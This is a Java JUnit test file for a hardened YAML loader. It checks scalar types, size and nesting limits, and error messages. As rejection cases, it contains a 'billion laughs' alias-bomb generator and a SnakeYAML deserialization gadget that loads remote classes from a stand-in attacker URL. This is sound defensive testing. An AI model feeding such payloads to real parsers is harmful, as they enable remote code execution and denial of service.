package io.falcooffline.core.yaml;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import io.falcooffline.core.InvalidYamlException;
import java.time.Duration;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.concurrent.atomic.AtomicInteger;
import org.junit.jupiter.api.Test;

class SafeYamlTest {

    /** Counts instantiations, to prove a tagged document builds nothing. */
    public static final class Canary {
        static final AtomicInteger CREATED = new AtomicInteger();

        public Canary() {
            CREATED.incrementAndGet();
        }

        public Canary(String ignored) {
            CREATED.incrementAndGet();
        }
    }

    @Test
    void shouldLoadTimestampsAsStringsWhenUnquoted() {
        Map<String, Object> values = SafeYaml.loadMap(
                "date: 2026-01-01\nstamp: 2001-12-14t21:59:43.10-05:00\nexplicit: !!timestamp 2026-02-03\n", "t.yaml");

        assertThat(values)
                .containsEntry("date", "2026-01-01")
                .containsEntry("stamp", "2001-12-14t21:59:43.10-05:00")
                .containsEntry("explicit", "2026-02-03");
    }

    @Test
    void shouldKeepSafeConstructorTypesWhenScalarsAreNotTimestamps() {
        Map<String, Object> values = SafeYaml.loadMap(
                "i: 3\nbig: 12345678901\nf: 1.5\nb: yes\nn: ~\ns: \"3\"\noctal: 010\nlist: [a, 1]\n", "t.yaml");

        assertThat(values)
                .containsEntry("i", 3)
                .containsEntry("big", 12345678901L)
                .containsEntry("f", 1.5)
                .containsEntry("b", true)
                .containsEntry("n", null)
                .containsEntry("s", "3")
                .containsEntry("octal", 8)
                .containsEntry("list", List.of("a", 1));
    }

    @Test
    void shouldDecodeBinaryAsTextWhenTaggedBinary() {
        assertThat(SafeYaml.loadMap("data: !!binary aGVsbG8=\n", "t.yaml")).containsEntry("data", "hello");
    }

    @Test
    void shouldFailFastNamingSourceAndAliasLimitWhenBillionLaughs() {
        StringBuilder yaml =
                new StringBuilder("a: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
        String previous = "a";
        for (int level = 0; level < 9; level++) {
            String name = "l" + level;
            yaml.append(name).append(": &").append(name).append(" [");
            for (int i = 0; i < 9; i++) {
                yaml.append(i > 0 ? "," : "").append('*').append(previous);
            }
            yaml.append("]\n");
            previous = name;
        }

        long started = System.nanoTime();
        assertThatThrownBy(() -> SafeYaml.load(yaml.toString(), "charts/evil/values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("charts/evil/values.yaml")
                .hasMessageContaining("more than 50 aliases")
                .hasMessageContaining("billion laughs");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(5));
    }

    @Test
    void shouldAcceptFiftyLevelsWhenNestingIsAtTheLimit() {
        assertThat(SafeYaml.load(nestedMaps(50), "deep.yaml")).isInstanceOf(Map.class);
        assertThat(SafeYaml.load("[".repeat(50) + "]".repeat(50), "deep.yaml")).isInstanceOf(List.class);
    }

    @Test
    void shouldFailWhenMapsNestFiftyOneLevels() {
        assertThatThrownBy(() -> SafeYaml.load(nestedMaps(51), "deep.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("deep.yaml line 51, column 101")
                .hasMessageContaining("deeper than 50 levels");
    }

    @Test
    void shouldFailWhenListsNestFiftyOneLevels() {
        assertThatThrownBy(() -> SafeYaml.load("[".repeat(51) + "]".repeat(51), "deep.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("deep.yaml line 1, column 51")
                .hasMessageContaining("deeper than 50 levels");
    }

    @Test
    void shouldFailNamingTheLimitWhenDocumentIsOverThreeMebibytes() {
        String document = documentOfSize(SafeYaml.MAX_CODE_POINTS + 1);

        long started = System.nanoTime();
        assertThatThrownBy(() -> SafeYaml.loadMap(document, "big/values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("big/values.yaml is larger than 3145728 characters (3 MiB)");
        assertThat(Duration.ofNanos(System.nanoTime() - started)).isLessThan(Duration.ofSeconds(1));
    }

    @Test
    void shouldAcceptDocumentWhenExactlyThreeMebibytes() {
        String document = documentOfSize(SafeYaml.MAX_CODE_POINTS);

        assertThat(SafeYaml.loadMap(document, "big/values.yaml")).containsEntry("a", 1);
    }

    @Test
    void shouldRefuseJavaTagsWithoutInstantiatingAnythingWhenDocumentCarriesGadget() {
        String gadget = "exploit: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader"
                + " [[!!java.net.URL [\"http://attacker.invalid/\"]]]]\n";

        assertThatThrownBy(() -> SafeYaml.loadMap(gadget, "user-values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("user-values.yaml line 1, column 10")
                .hasMessageContaining("uses the tag !!javax.script.ScriptEngineManager");

        String canary = "a: !!" + Canary.class.getName() + " [x]\nb: !!" + Canary.class.getName() + " {}\n";
        assertThatThrownBy(() -> SafeYaml.loadMap(canary, "user-values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("uses the tag !!" + Canary.class.getName());
        assertThat(Canary.CREATED).hasValue(0);
    }

    @Test
    void shouldRefuseLocalTagsWhenNoConstructorExists() {
        assertThatThrownBy(() -> SafeYaml.loadMap("a: !custom value\n", "v.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("v.yaml line 1, column 4 uses the tag !custom");
    }

    @Test
    void shouldNameSourceLineAndColumnWhenSyntaxIsWrong() {
        assertThatThrownBy(() -> SafeYaml.loadMap("image:\n  registry: a\n tag: b\n", "my-values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageStartingWith("my-values.yaml line 3, column 2 is not valid YAML: ")
                .hasMessageEndingWith("Fix the YAML there.");
    }

    @Test
    void shouldRejectValuesFileWhenItIsNotAMapping() {
        assertThatThrownBy(() -> SafeYaml.loadMap("- a\n- b\n", "list.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessage("list.yaml must be a YAML mapping (key: value lines) but is a list.");
        assertThatThrownBy(() -> SafeYaml.loadMap("just text\n", "scalar.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("but is a scalar");
    }

    @Test
    void shouldRejectTopLevelKeyWhenItIsNotAString() {
        assertThatThrownBy(() -> SafeYaml.loadMap("1: a\n", "keys.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageContaining("keys.yaml has a top-level key that is not a string: 1");
    }

    @Test
    void shouldLoadEmptyMapWhenDocumentHasOnlyComments() {
        assertThat(SafeYaml.loadMap("# nothing here\n", "empty.yaml")).isEmpty();
    }

    @Test
    void shouldKeepLastValueWhenKeyIsDuplicated() {
        assertThat(SafeYaml.loadMap("a: 1\nb: 2\na: 3\n", "dup.yaml")).isEqualTo(Map.of("a", 3, "b", 2));
    }

    @Test
    void shouldQuoteStringsHelmReadsAsOtherTypesWhenDumping() {
        Map<String, Object> values = new LinkedHashMap<>();
        values.put("goBoolean", "y");
        values.put("goFloat", "1e3");
        values.put("yamlBoolean", "true");
        values.put("version", "0.44.0");
        values.put("list", List.of("n", "a"));

        String dumped = SafeYaml.dump(values);

        assertThat(dumped)
                .isEqualTo("goBoolean: 'y'\ngoFloat: '1e3'\nyamlBoolean: 'true'\nversion: 0.44.0\nlist:\n- 'n'\n- a\n");
        assertThat(SafeYaml.loadMap(dumped, "dumped")).isEqualTo(values);
        assertThat(SafeYaml.dumpInline(values.get("list"))).isEqualTo("['n', a]");
    }

    /** {@code a: 1} and comment lines, {@code size} characters in all. */
    private static String documentOfSize(int size) {
        StringBuilder document = new StringBuilder("a: 1\n");
        String line = "# " + "x".repeat(77) + "\n";
        while (document.length() + line.length() + 2 <= size) {
            document.append(line);
        }
        int rest = size - document.length();
        document.append('#').append("y".repeat(rest - 2)).append('\n');
        assertThat(document).hasSize(size);
        return document.toString();
    }

    private static String nestedMaps(int levels) {
        StringBuilder yaml = new StringBuilder();
        for (int i = 0; i < levels; i++) {
            yaml.append("  ".repeat(i)).append("k").append(i).append(":\n");
        }
        return yaml.toString();
    }

    @Test
    void shouldNameTheLineWhereAnUnclosedQuoteStartsNotWhereTheFileEnds() {
        String yaml = "image:\n  tag: \"0.44.0\n" + "other: value\n".repeat(20);

        assertThatThrownBy(() -> SafeYaml.load(yaml, "custom_values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessageStartingWith("custom_values.yaml line 2, column 8: a quoted string starts here and is"
                        + " never closed (the parser reached line 23, column 1). Close the quote on that line.");
    }

    @Test
    void shouldNameWhereAnUnclosedListStarts() {
        assertThatThrownBy(() -> SafeYaml.load("args: [--plain-http, -v\nother: 1\n", "values.yaml"))
                .isInstanceOf(InvalidYamlException.class)
                .hasMessage("values.yaml line 2, column 6 is not valid YAML: expected ',' or ']', but got :"
                        + " (in a list in [brackets] that starts at line 1, column 7). Fix the YAML there.");
    }

    @Test
    void shouldNameEscapedCharactersAndDropSnakeYamlsMisleadingIndentationHint() {
        assertThat(SafeYaml.readable("found unexpected character '\\u000a'"))
                .isEqualTo("found unexpected character 'line feed'");
        assertThat(SafeYaml.readable("found character '@' that cannot start any token. (Do not use @ for indentation)"))
                .isEqualTo("found character '@' that cannot start any token");
        assertThat(
                        SafeYaml.readable(
                                "found character '\\t(TAB)' that cannot start any token. (Do not use \\t(TAB) for indentation)"))
                .isEqualTo("found character '\\t(TAB)' that cannot start any token."
                        + " (Do not use \\t(TAB) for indentation)");
    }
}
